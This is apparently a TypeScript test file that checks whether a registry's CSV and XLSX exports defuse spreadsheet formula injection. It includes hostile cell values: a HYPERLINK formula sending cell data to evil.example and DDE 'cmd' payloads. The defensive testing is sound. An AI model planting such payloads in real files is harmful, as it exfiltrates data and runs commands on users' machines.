import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { generateDemo, type ExportTable } from '@corridor/core';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, describe, expect, it } from 'vitest';
import { backends, tempDir } from '@corridor/storage/test-support';
import { tableToCsv, tableToXlsx } from '@corridor/formats';
import { exportRegistry } from './export-registry.js';
import { importFile } from './import-file.js';

const registrar = { name: 'test-registrar', role: 'registrar' };

/** Cells an attacker types into a name or a note, and ones that must come out unchanged. */
const hostile = [
  '=HYPERLINK("http://evil.example/?x="&A1,"open")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
const harmless = ['-12.5', '+93', '42', 'Amal', 'a=b'];

/** Whether a spreadsheet opening this CSV cell would read a formula (a plain number is not one). */
function csvRuns(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^[-+]?\d+(\.\d+)?$/.test(cell);
}

/** Every cell of every sheet, with its type, as exceljs reads the workbook back. */
async function xlsxCells(bytes: Buffer) {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes as unknown as ArrayBuffer);
  const cells: { value: unknown; type: ExcelJS.ValueType; formula: unknown; numFmt: string }[] = [];
  book.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) =>
        cells.push({
          value: cell.value,
          type: cell.type,
          formula: cell.formula,
          numFmt: cell.numFmt,
        }),
      ),
    ),
  );
  return cells;
}

describe('formula cells in exports', () => {
  const table: ExportTable = {
    columns: [
      { name: 'value', hxl: '#meta+value' },
      { name: '=header', hxl: '+hxl' },
    ],
    rows: [...hostile, ...harmless].map((v) => [v, v]),
  };

  it('CSV: a cell a spreadsheet would run gets an apostrophe; numbers stay numbers', () => {
    const cells = (parse(tableToCsv(table, { hxl: true })) as string[][]).flat();
    expect(cells.filter(csvRuns)).toEqual([]);
    for (const h of hostile) expect(cells).toContain(`'${h}`);
    for (const h of harmless) expect(cells).toContain(h);
    expect(cells).toContain("'=header");
  });

  it('XLSX: no cell is a formula; hostile text is stored as text, numbers as written', async () => {
    const cells = await xlsxCells(await tableToXlsx(table, { hxl: true }));
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula || c.formula)).toEqual([]);
    // XML turns a carriage return into a line feed; the text is otherwise kept as written.
    for (const h of [...hostile, ...harmless, '=header'].map((v) => v.replace(/\r/g, '\n')))
      expect(cells.some((c) => c.value === h && c.type === ExcelJS.ValueType.String)).toBe(true);
    const risky = cells.filter((c) => typeof c.value === 'string' && csvRuns(c.value));
    expect(risky.length).toBeGreaterThanOrEqual(2 * (hostile.length - 1));
    expect(risky.every((c) => c.numFmt === '@')).toBe(true);
  });
});

describe.each(backends.filter((b) => b.name === 'pglite'))(
  'registry export on $name',
  (backend) => {
    const files = tempDir();
    afterAll(() => files.cleanup());

    it('neutralises hostile names in CSV and XLSX and reads its own CSV back unchanged', async () => {
      const demo = structuredClone(generateDemo({ people: 30, seed: 3 }));
      // The importer trims names, so the whitespace-led cells are left to the table test above.
      const names = hostile.filter((h) => !/^\s/.test(h));
      demo.persons.slice(0, names.length).forEach((p, k) => {
        p.pii.givenName = names[k]!;
        p.pii.familyName = '@' + p.pii.familyName;
        p.pii.phone = '+93 700 000 00' + k;
      });
      const { store, close } = await backend.fresh();
      const other = await backend.fresh();
      try {
        await store.registry.createOperation(demo, registrar);
        const destinations = join(files.dir, 'destinations.json');
        writeFileSync(
          destinations,
          await exportRegistry(store, 'destinations', { format: 'json' }),
        );
        await importFile(other.store, { path: destinations }, {}, registrar);
        const csv = await exportRegistry(store, 'persons', { format: 'csv', hxl: true });
        const cells = (parse(csv) as string[][]).flat();
        expect(cells.filter(csvRuns)).toEqual([]);
        expect(cells).toContain(`'${hostile[0]}`);
        const xlsx = await xlsxCells(await exportRegistry(store, 'persons', { format: 'xlsx' }));
        expect(xlsx.filter((c) => c.type === ExcelJS.ValueType.Formula || c.formula)).toEqual([]);
        expect(xlsx.some((c) => c.value === hostile[0])).toBe(true);
        // The importer takes the apostrophe off again: a round trip gives the same export.
        const path = join(files.dir, 'persons.csv');
        writeFileSync(path, csv);
        const report = await importFile(other.store, { path }, {}, registrar);
        expect(report.problems).toEqual([]);
        const again = await exportRegistry(other.store, 'persons', { format: 'csv', hxl: true });
        expect(again.toString()).toBe(csv.toString());
      } finally {
        await other.close();
        await close();
      }
    });
  },
);
